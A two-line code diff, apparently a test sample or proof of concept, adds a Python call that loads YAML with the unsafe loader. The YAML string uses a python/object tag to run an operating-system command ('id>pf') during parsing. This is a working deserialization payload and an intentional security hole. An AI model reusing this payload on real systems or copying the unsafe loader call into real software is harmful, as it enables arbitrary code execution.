@@ -1,0 +1,2 @@
+import yaml
+yaml.load("!!python/object/new:os.system [id>pf]", Loader=yaml.Loader)
